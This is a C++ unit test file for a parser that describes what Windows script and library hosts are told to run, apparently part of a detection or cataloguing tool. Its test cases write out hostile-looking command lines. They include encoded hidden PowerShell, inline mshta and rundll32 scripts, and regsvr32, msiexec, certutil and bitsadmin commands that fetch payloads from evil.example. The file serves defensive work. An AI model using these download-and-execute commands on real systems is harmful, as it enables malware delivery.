// What a command that starts one of Windows' script and library hosts is made to run.
#include <gtest/gtest.h>

#include <string>

#include "catalogue/HostPayload.h"

namespace korvalis::catalogue {

namespace {

// "Start-Process calc" as UTF-16LE, in base64.
const std::string kStartCalc = "UwB0AGEAcgB0AC0AUAByAG8AYwBlAHMAcwAgAGMAYQBsAGMA";

struct Case {
  std::string command;
  PayloadKind kind;
  std::string what, file, program;
};

}  // namespace

TEST(HostPayload, EachHostIsReadAsItReadsItsOwnArguments) {
  const std::string calc = "PowerShell command: Start-Process calc";
  const std::string system = "C:\\Windows\\System32\\";
  const Case cases[] = {
      {system + "WindowsPowerShell\\v1.0\\powershell.exe -NoProfile -WindowStyle Hidden -enc " + kStartCalc,
       PayloadKind::Script, calc, "", system + "WindowsPowerShell\\v1.0\\powershell.exe"},
      {"POWERSHELL /EncodedCommand " + kStartCalc, PayloadKind::Script, calc, "", "POWERSHELL.exe"},
      {"powershell -Version 2 -ec " + kStartCalc, PayloadKind::Script, calc, "", "powershell.exe"},
      {"pwsh --encodedcommand " + kStartCalc, PayloadKind::Script, calc, "", "pwsh.exe"},
      // An en dash is a dash to PowerShell.
      {"powershell \xE2\x80\x93" "en " + kStartCalc, PayloadKind::Script, calc, "", "powershell.exe"},
      // Beyond the basic plane, and an odd last byte.
      {"powershell -e PdgA3g==", PayloadKind::Script, "PowerShell command: \xF0\x9F\x98\x80", "", "powershell.exe"},
      {"powershell -e YQBi", PayloadKind::Script, "PowerShell command: a\xEF\xBF\xBD", "", "powershell.exe"},
      {"powershell -enc UwB0!!AA", PayloadKind::Script, "PowerShell encoded command, not valid base64: UwB0!!AA", "",
       "powershell.exe"},
      {"powershell -enc UwB", PayloadKind::Script, "PowerShell encoded command, not valid base64: UwB", "",
       "powershell.exe"},
      {"powershell.exe -ex bypass -File \"C:\\Users\\Ann\\AppData\\Roaming\\up date.ps1\" -Quiet", PayloadKind::Script,
       "C:\\Users\\Ann\\AppData\\Roaming\\up date.ps1 (PowerShell)", "C:\\Users\\Ann\\AppData\\Roaming\\up date.ps1",
       "powershell.exe"},
      {"powershell -nop -c \"Get-Process; calc\" -x", PayloadKind::Script, "PowerShell command: Get-Process; calc -x", "",
       "powershell.exe"},
      {"powershell -nop Start-Process calc", PayloadKind::Script, calc, "", "powershell.exe"},
      {"\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" C:\\s\\a.ps1 -x", PayloadKind::Script, "C:\\s\\a.ps1 (PowerShell)",
       "C:\\s\\a.ps1", "C:\\Program Files\\PowerShell\\7\\pwsh.exe"},
      {"C:\\Program Files\\PowerShell\\7\\pwsh.exe -c calc", PayloadKind::Script, "PowerShell command: calc", "",
       "C:\\Program Files\\PowerShell\\7\\pwsh.exe"},
      {"powershell -NoExit", PayloadKind::None, "", "", ""},
      {"cmd.exe /c del /q C:\\x", PayloadKind::Script, "cmd command: del /q C:\\x", "", "cmd.exe"},
      {system + "cmd.exe /q/k \"C:\\Tools\\start.bat\" now", PayloadKind::Script, "cmd command: C:\\Tools\\start.bat now",
       "C:\\Tools\\start.bat", system + "cmd.exe"},
      {"cmd /c \"powershell -w hidden -enc " + kStartCalc + "\"", PayloadKind::Script, calc, "", "powershell.exe"},
      {"cmd", PayloadKind::None, "", "", ""},
      {"wscript.exe //B //Nologo \"C:\\Users\\Ann\\run it.vbs\" /x", PayloadKind::Script,
       "C:\\Users\\Ann\\run it.vbs (wscript)", "C:\\Users\\Ann\\run it.vbs", "wscript.exe"},
      {"CScript //E:jscript C:\\a.txt", PayloadKind::Script, "C:\\a.txt (cscript)", "C:\\a.txt", "CScript.exe"},
      {"mshta http://evil.example/a.hta", PayloadKind::Script, "http://evil.example/a.hta (mshta)", "", "mshta.exe"},
      {"mshta \"javascript:a=new ActiveXObject('WScript.Shell');a.Run('calc');close()\"", PayloadKind::Script,
       "mshta inline script: javascript:a=new ActiveXObject('WScript.Shell');a.Run('calc');close()", "", "mshta.exe"},
      {"mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\")", PayloadKind::Script,
       "mshta inline script: vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\")", "",
       "mshta.exe"},
      {"mshta.exe C:\\x\\a.hta", PayloadKind::Script, "C:\\x\\a.hta (mshta)", "C:\\x\\a.hta", "mshta.exe"},
      {"rundll32.exe \"C:\\Users\\Ann\\AppData\\Local\\up date.dll\",Start", PayloadKind::Library,
       "C:\\Users\\Ann\\AppData\\Local\\up date.dll, entry point Start", "C:\\Users\\Ann\\AppData\\Local\\up date.dll",
       "rundll32.exe"},
      {"rundll32 shell32,Control_RunDLL x.cpl", PayloadKind::Library,
       "shell32.dll, entry point Control_RunDLL, with x.cpl", "shell32.dll", "rundll32.exe"},
      {"rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)", PayloadKind::Script,
       "rundll32 inline script: javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)", "", "rundll32.exe"},
      {"regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll", PayloadKind::Script,
       "scriptlet http://evil.example/a.sct (regsvr32)", "", "regsvr32.exe"},
      {"regsvr32.exe /s /u C:\\x\\a.dll", PayloadKind::Library, "C:\\x\\a.dll (regsvr32 /u)", "C:\\x\\a.dll",
       "regsvr32.exe"},
      {"msiexec /q /i https://evil.example/a.msi", PayloadKind::Package, "https://evil.example/a.msi (msiexec)", "",
       "msiexec.exe"},
      {"msiexec.exe /i \"C:\\Temp\\set up.msi\" /qn", PayloadKind::Package, "C:\\Temp\\set up.msi (msiexec)",
       "C:\\Temp\\set up.msi", "msiexec.exe"},
      {"msiexec /x {0D7A3C4E-1B2F-4A5D-8E9F-0A1B2C3D4E5F}", PayloadKind::None, "", "", ""},
      {"certutil.exe -urlcache -split -f http://evil.example/a.exe C:\\Users\\Public\\a.exe", PayloadKind::Download,
       "http://evil.example/a.exe to C:\\Users\\Public\\a.exe (certutil)", "", "certutil.exe"},
      {"certutil -urlcache * delete", PayloadKind::None, "", "", ""},
      {"bitsadmin /transfer job /download /priority high http://evil.example/a.exe C:\\Temp\\a.exe",
       PayloadKind::Download, "http://evil.example/a.exe to C:\\Temp\\a.exe (bitsadmin)", "", "bitsadmin.exe"},
      {"C:\\Tools\\agent.exe -enc " + kStartCalc, PayloadKind::None, "", "", ""},
      {"C:\\Tools\\agent.exe C:\\Windows\\cmd.exe /c calc", PayloadKind::None, "", "", ""},
      {"powershellx -enc " + kStartCalc, PayloadKind::None, "", "", ""},
  };
  for (const Case& c : cases) {
    const THostPayload payload = FindHostPayload(c.command);
    EXPECT_EQ(payload.kind, c.kind) << c.command;
    EXPECT_EQ(payload.what, c.what) << c.command;
    EXPECT_EQ(payload.file, c.file) << c.command;
    if (c.kind != PayloadKind::None) {
      EXPECT_EQ(payload.program, c.program) << c.command;
    }
  }
}

TEST(HostPayload, EveryAbbreviationOfEncodedCommandIsDecoded) {
  for (const char* name : {"-e", "-en", "-enc", "-encoded", "-encodedcommand", "-EncodedCommand", "/enc", "-EC"}) {
    const THostPayload payload = FindHostPayload(std::string("powershell.exe ") + name + " " + kStartCalc);
    EXPECT_EQ(payload.what, "PowerShell command: Start-Process calc") << name;
  }
  // -ex is -ExecutionPolicy, whose value is no command; -ea carries arguments, not the command.
  EXPECT_EQ(FindHostPayload("powershell -ex " + kStartCalc).kind, PayloadKind::None);
  EXPECT_EQ(FindHostPayload("powershell -ea " + kStartCalc).kind, PayloadKind::None);
}

TEST(HostPayload, AHugePayloadIsDescribedWithinItsBound) {
  std::string encoded;
  for (int i = 0; i < 333334; ++i) encoded += "QQBBAEEA";  // "AAA" as UTF-16LE
  const THostPayload decoded = FindHostPayload("powershell -enc " + encoded);
  EXPECT_EQ(decoded.what.rfind("PowerShell command of 1000002 characters: AAAA", 0), 0u);
  const THostPayload command = FindHostPayload("cmd /c " + std::string(1000000, 'x'));
  const THostPayload script = FindHostPayload("powershell -Command " + std::string(1000000, 'y') + " z");
  for (const THostPayload* payload : {&decoded, &command, &script}) {
    EXPECT_LE(payload->what.size(), kPayloadTextAtMost + 3);
    EXPECT_EQ(payload->what.substr(payload->what.size() - 3), "...");
  }
  // Broken base64 a million characters long is said to be so, cut as well.
  const THostPayload broken = FindHostPayload("powershell -enc " + std::string(1000000, '!'));
  EXPECT_EQ(broken.what.rfind("PowerShell encoded command, not valid base64: !!!", 0), 0u);
  EXPECT_LE(broken.what.size(), kPayloadTextAtMost + 3);
}

}  // namespace korvalis::catalogue
